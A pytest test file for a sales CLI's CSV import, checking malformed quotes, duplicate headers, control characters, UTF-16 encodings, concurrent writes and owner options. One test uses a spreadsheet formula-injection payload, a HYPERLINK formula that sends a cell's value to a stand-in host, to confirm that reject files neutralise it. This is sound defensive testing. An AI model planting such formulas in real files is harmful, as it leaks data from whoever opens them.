"""The CSV import never loses or leaks data (issue 6, issue 8): unclosed quotes, duplicate
headers, control characters, UTF-16 files, header-only files, neutralised reject files, and
the write lock held only for the write (a `lead add` during a large import succeeds)."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import NOW, clean_env


def write(path: Path, text: str, *, encoding: str = "utf-8") -> str:
    path.write_bytes(text.encode(encoding))
    return str(path)


def lead_count(cli) -> int:
    return cli.sql("SELECT count(*) FROM lead")[0][0]


def test_an_unclosed_quote_is_refused_with_the_line_of_the_quote(cli, tmp_path):
    path = write(
        tmp_path / "quote.csv",
        "name,email,notes\n"
        "Ana Souza,ana@example.com,ok\n"
        'Bo Berg,bo@example.com,"a note\n'
        "that goes on\n"
        "Cy Rossi,cy@example.com,x\n"
        "Di Smith,di@example.com,y\n",
    )
    result = cli("lead", "import", path)
    assert result.code == 1 and result.out == ""
    assert result.err == (
        "Error: line 3: a quoted value opens here and is never closed, so the rest of the file "
        "would be read as one cell; nothing imported (close the quote, or double a quote "
        'inside a value: "say ""hi""")\n'
    )
    # Also on the last line without a line end, and in a file's second quoted cell.
    tail = write(tmp_path / "tail.csv", 'name,notes\nAna,"fine\nline"\nBo,"x","open')
    result = cli("lead", "import", tail, "--skip-invalid")
    assert result.code == 1 and "Error: line 4: a quoted value opens here" in result.err
    assert lead_count(cli) == 0
    assert cli.sql("SELECT count(*) FROM importbatch") == [(0,)]
    # A quoted multi-line value that is closed still imports, up to the last line.
    good = write(tmp_path / "good.csv", 'name,notes\nAna,"two\nlines"\nBo,"closed ""q"""')
    cli.ok("lead", "import", good)
    assert cli.sql("SELECT name, notes FROM lead ORDER BY id") == [
        ("Ana", "two\nlines"),
        ("Bo", 'closed "q"'),
    ]


def test_a_duplicate_header_is_refused_naming_the_column(cli, tmp_path):
    same = write(tmp_path / "same.csv", "name,email,email\nAna,a@example.com,b@example.com\n")
    result = cli("lead", "import", same)
    assert (result.code, result.out) == (1, "")
    assert result.err == (
        f"Error: {same}: the header has the column 'email' twice (columns 2 and 3); "
        "rename or remove one, nothing imported\n"
    )
    folded = write(tmp_path / "folded.csv", "Name,Email,e-mail\nAna,a@example.com,b@x.com\n")
    result = cli("lead", "import", folded)
    assert result.err == (
        f"Error: {folded}: the header has the column 'Email' and 'e-mail' twice (columns 2 "
        "and 3); rename or remove one, nothing imported\n"
    )
    assert lead_count(cli) == 0


def test_control_characters_are_refused_per_cell_and_never_echoed_raw(cli, tmp_path):
    path = write(
        tmp_path / "controls.csv",
        "name,email,company,title,notes,status\n"
        'Ana Souza,ana@example.com,Acme,CEO,"tab\there\nand a line",new\n'
        "Bo\x00Berg,bo@example.com,Acme,CEO,,new\n"
        "Cy Rossi,cy@example.com,\x1b[31mRed,CEO,,new\n"
        "Di Smith,di@example.com,Acme,Buy\x85er,,new\n"
        "Ed Lane,ed@example.com,Acme,CEO,bell\x07,new\n"
        "Flo Kim,flo@example.com,Acme,CEO,,hot\tish\n",
    )
    result = cli("lead", "import", path)
    assert result.code == 1 and result.out == ""
    rule = "control characters are refused (tabs and line breaks only in notes)"
    assert result.err == (
        f"Error: 5 invalid rows in {path}; nothing imported (fix them, or use --skip-invalid "
        "to import the rest):\n"
        f"  line 4: column 'name': contains the control character \\x00 (at character 3); {rule}\n"
        f"  line 5: column 'company': contains the control character \\x1b (at character 1); {rule}\n"
        f"  line 6: column 'title': contains the control character \\x85 (at character 4); {rule}\n"
        f"  line 7: column 'notes': contains the control character \\x07 (at character 5); {rule}\n"
        "  line 8: column 'status': 'hot\\tish' is not one of: new, contacted, qualified, "
        "unqualified, nurturing, converted, lost; map it: --map-value "
        '"status:hot\\tish=lost"\n'
    )
    assert "\x00" not in result.err and "\x1b" not in result.err and "\x07" not in result.err
    assert lead_count(cli) == 0
    rejects = tmp_path / "rejects.csv"
    result = cli("lead", "import", path, "--skip-invalid", "--reject-file", str(rejects))
    assert result.code == 1
    assert cli.sql("SELECT name, notes FROM lead") == [("Ana Souza", "tab\there\nand a line")]
    rows = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    assert [row[-2] for row in rows[1:]] == ["4", "5", "6", "7", "8"]
    assert rows[2][2] == "\x1b[31mRed"  # the row as it was, for fixing
    assert (
        rows[1][-1]
        == f"column 'name': contains the control character \\x00 (at character 3); {rule}"
    )
    assert all(not any(c in row[-1] for c in "\x00\x1b\x85\x07\t") for row in rows)


def test_a_utf16_file_with_a_bom_is_read_as_utf16(cli, tmp_path):
    text = "name,company\nJürgen Groß,Müller AG\nİlkay Işık,Çelik\n"
    little = write(tmp_path / "le.csv", text, encoding="utf-16")  # BOM + little-endian
    big = tmp_path / "be.csv"
    big.write_bytes(b"\xfe\xff" + text.replace("Jürgen", "Ana").encode("utf-16-be"))
    assert Path(little).read_bytes()[:2] == b"\xff\xfe"
    assert cli.ok("lead", "import", little).err.startswith("Imported 2 leads")
    assert cli.ok("lead", "import", str(big)).err == (
        "Warning: 1 pair of leads with a near-identical name and company: lead 4 ~ lead 2 "
        "(100% alike) (see: salescli lead duplicates; merge: salescli lead merge)\n"
        f"Imported 2 leads from {big} (batch 2).\n"
    )
    assert cli.sql("SELECT name, company FROM lead ORDER BY id") == [
        ("Jürgen Groß", "Müller AG"),
        ("İlkay Işık", "Çelik"),
        ("Ana Groß", "Müller AG"),
        ("İlkay Işık", "Çelik"),
    ]
    forced = cli("lead", "import", little, "--encoding", "utf-8", "--again")
    assert forced.code == 1
    assert forced.err == (
        f"Error: {little} is not valid utf-8 (byte 0xff on line 1); it starts with a UTF-16 "
        "byte-order mark: try --encoding utf-16\n"
    )
    bare = write(tmp_path / "bare.csv", text, encoding="utf-16-le")
    result = cli("lead", "import", bare)
    assert result.code == 1
    assert result.err == (
        f"Error: {bare} is not valid utf-8-sig (byte 0xfc on line 2); it looks like UTF-16 "
        "without a byte-order mark: try --encoding utf-16-le\n"
    )
    ascii_only = write(tmp_path / "ascii.csv", "name,email\nAna,x@y.com\n", encoding="utf-16-be")
    result = cli("lead", "import", ascii_only)
    assert result.code == 1
    assert result.err == (
        f"Error: {ascii_only}: header column 1 '\\x00n\\x00a\\x00m\\x00e\\x00' contains a control "
        "character (it looks like UTF-16 without a byte-order mark: try --encoding "
        "utf-16-be); nothing imported\n"
    )
    done = cli.ok("lead", "import", bare, "--encoding", "utf-16-le")
    assert done.err == (  # the same names again: the near-identical warning, new vs others
        "Warning: 3 pairs of leads with a near-identical name and company: lead 5 ~ lead 1 "
        "(100% alike), lead 6 ~ lead 2 (100% alike), lead 6 ~ lead 4 (100% alike) "
        "(see: salescli lead duplicates; merge: salescli lead merge)\n"
        f"Imported 2 leads from {bare} (batch 3).\n"
    )
    assert lead_count(cli) == 6


def test_reject_files_neutralise_spreadsheet_formulas(cli, tmp_path):
    path = write(
        tmp_path / "formulas.csv",
        "name,email,company\n"
        '=HYPERLINK("http://x.example/?"&A1),bad-email,+1 Acme\n'
        "@SUM(A1),-2@,\tTabbed\n"
        "Ana Souza,ana@example.com,Acme\n",
    )
    rejects = tmp_path / "rejects.csv"
    result = cli("lead", "import", path, "--skip-invalid", "--reject-file", str(rejects))
    assert result.code == 1
    assert "1 imported, 2 rejected" in result.err
    rows = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    assert rows[0] == ["name", "email", "company", "line", "error"]
    assert rows[1][:4] == ['\'=HYPERLINK("http://x.example/?"&A1)', "bad-email", "'+1 Acme", "2"]
    assert rows[2][:4] == ["'@SUM(A1)", "'-2@", "'\tTabbed", "3"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    # Fixed and fed back, the quotes our exports and reject files add are undone.
    rows[1][1], rows[2][1] = "hyper@example.com", "sum@example.com"
    with rejects.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    cli.ok("lead", "import", str(rejects))
    assert cli.sql("SELECT name, company FROM lead ORDER BY id") == [
        ("Ana Souza", "Acme"),
        ('=HYPERLINK("http://x.example/?"&A1)', "+1 Acme"),
        ("@SUM(A1)", "Tabbed"),
    ]


@pytest.mark.slow
def test_a_lead_add_during_a_large_import_succeeds(cli, tmp_path):
    rows = 150_000
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["name", "email", "phone", "company", "source"])
        for i in range(rows):
            writer.writerow(
                [f"Lead {i}", f"lead{i}@example.com", f"+1 555 {i:07d}", f"Co {i % 500}", "web"]
            )
    env = clean_env(SALESCLI_DB=cli.url, SALESCLI_NOW=NOW)
    base = [sys.executable, "-m", "salescli"]
    importer = subprocess.Popen(
        [*base, "lead", "import", str(path)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        # Start-up done; reading and validating 150,000 rows takes seconds more (3 s in all on
        # a fast machine, before the import's write): the add commits well inside that.
        time.sleep(1.0)
        assert importer.poll() is None, "the import ended before the interactive write"
        add = subprocess.run(
            [*base, "lead", "add", "Walk-in Customer", "--email", "walkin@example.com"],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert add.returncode == 0, add.stderr
        out, err = importer.communicate(timeout=300)
    finally:
        if importer.poll() is None:
            importer.kill()
    assert importer.returncode == 0, err
    assert err == (
        f"Warning: {rows} leads imported into {rows + 1}: the near-identical name + company "
        "check was skipped for an import this large (run: salescli lead duplicates)\n"
        f"Imported {rows} leads from {path} (batch 1).\n"
    )
    # The interactive write committed while the import was still validating, before its write.
    [(walk_in,)] = cli.sql("SELECT id FROM lead WHERE email_key = 'walkin@example.com'")
    assert cli.sql("SELECT min(id) FROM lead WHERE import_batch_id = 1") > [(walk_in,)]
    assert cli.sql("SELECT count(*) FROM lead") == [(rows + 1,)]
    assert cli.sql("SELECT count(*) FROM lead WHERE import_batch_id = 1") == [(rows,)]
    assert cli.sql("SELECT name FROM lead WHERE email_key = 'walkin@example.com'") == [
        ("Walk-in Customer",)
    ]


def test_what_changed_while_validating_is_checked_again_under_the_write_lock(
    cli, tmp_path, monkeypatch
):
    """The file is validated outside the write lock; another salescli process then writes
    (between validation and write, as a `lead add` during a long import would): a new
    duplicate, the same file imported, a renamed rep. Nothing is ever doubled or orphaned."""
    from salescli.services.csv import engine as csvio

    env = clean_env(SALESCLI_DB=cli.url, SALESCLI_NOW=NOW)
    meanwhile: list[list[str]] = []
    original = csvio.validate_file

    def validate_then_another_writer(*args, **kwargs):
        result = original(*args, **kwargs)
        while meanwhile:
            done = subprocess.run(
                [sys.executable, "-m", "salescli", *meanwhile.pop(0)],
                env=env,
                capture_output=True,
                text=True,
                timeout=60,
            )
            assert done.returncode == 0, done.stderr
        return result

    monkeypatch.setattr(csvio, "validate_file", validate_then_another_writer)
    cli.ok("rep", "add", "Zoe Berg")
    path = write(
        tmp_path / "leads.csv",
        "name,email,owner\nAna Souza,ana@example.com,Zoe Berg\nBo Lane,bo@example.com,\n",
    )
    # A lead with one of the file's emails is saved meanwhile.
    meanwhile.append(["lead", "add", "Bo Other", "--email", "BO@example.com"])
    result = cli("lead", "import", path)
    assert result.code == 1 and result.out == ""
    assert result.err == (
        "Error: line 3: duplicate of lead 1 (email bo@example.com), which was saved while the "
        "file was being validated; nothing imported (run the import again)\n"
    )
    assert cli.sql("SELECT id, name FROM lead") == [(1, "Bo Other")]
    assert cli.sql("SELECT count(*) FROM importbatch") == [(0,)]
    # Run again, it is an ordinary duplicate; the same file imported meanwhile is refused.
    result = cli("lead", "import", path, "--skip-invalid", "--dry-run")
    assert "line 3: duplicate of lead 1 (email bo@example.com)" in result.err
    other = write(tmp_path / "other.csv", "name,email\nCy Rossi,cy@example.com\n")
    meanwhile.append(["lead", "import", other])
    result = cli("lead", "import", other)
    assert result.code == 1
    [(batch,)] = cli.sql("SELECT id FROM importbatch")  # PostgreSQL: the sequence moved on
    assert result.err == (
        f"Error: {other} was already imported on 2026-11-23 09:00 UTC as batch {batch}; use "
        "--again to import it again\n"
    )
    assert cli.sql("SELECT count(*) FROM lead WHERE email_key = 'cy@example.com'") == [(1,)]
    # The rep the file names is renamed meanwhile: validated again under the lock.
    meanwhile.append(["rep", "edit", "Zoe Berg", "--name", "Zoe Lane"])
    result = cli("lead", "import", path, "--skip-invalid", "--reject-file", str(tmp_path / "r"))
    assert result.code == 1
    assert "0 imported, 2 rejected" in result.err
    rejects = (tmp_path / "r").read_text(encoding="utf-8").splitlines()
    assert rejects[1:] == [
        "Ana Souza,ana@example.com,Zoe Berg,2,owner 'Zoe Berg' is not a rep (see: salescli rep list)",
        "Bo Lane,bo@example.com,,3,duplicate of lead 1 (email bo@example.com)",
    ]
    assert cli.sql("SELECT count(*) FROM lead") == [(2,)]


def test_import_and_export_owner_means_what_every_owner_option_means(cli, tmp_path, monkeypatch):
    """`--owner` of an import (rows that name none) and of an export: an id, a name, `me`
    (SALESCLI_REP / config me) or `none`, resolved by services.scope as everywhere else."""
    cli.ok("rep", "add", "Ana Souza")
    cli.ok("rep", "add", "Bob")
    monkeypatch.setenv("SALESCLI_REP", "ANA SOUZA")
    first = write(tmp_path / "a.csv", "name,owner\nAcme,\nGlobex,Bob\n")
    cli.ok("account", "import", first, "--owner", "me")
    second = write(tmp_path / "b.csv", "name,owner\nInitech,\n")
    cli.ok("account", "import", second, "--owner", "none")
    third = write(tmp_path / "c.csv", "name\nUmbrella\n")
    cli.ok("account", "import", third, "--owner", "2")
    assert cli.sql("SELECT name, owner_id FROM account ORDER BY id") == [
        ("Acme", 1),
        ("Globex", 2),
        ("Initech", None),
        ("Umbrella", 2),
    ]
    exported = {
        ref: [row["name"] for row in cli.json("account", "export", "--owner", ref)]
        for ref in ("me", "none", "bob", "1")
    }
    assert exported == {
        "me": ["Acme"],
        "none": ["Initech"],
        "bob": ["Globex", "Umbrella"],
        "1": ["Acme"],
    }
    missing = cli("account", "import", third, "--again", "--owner", "Zed")
    assert missing.code == 3
    assert missing.err == "Error: --owner: rep 'Zed' not found (see: salescli rep list)\n"
    monkeypatch.setenv("SALESCLI_REP", "Ghost")
    ghost = cli("account", "export", "--owner", "me")
    assert ghost.code == 3
    assert (
        ghost.err == "Error: --owner: SALESCLI_REP 'Ghost' is not a rep (see: salescli rep list)\n"
    )
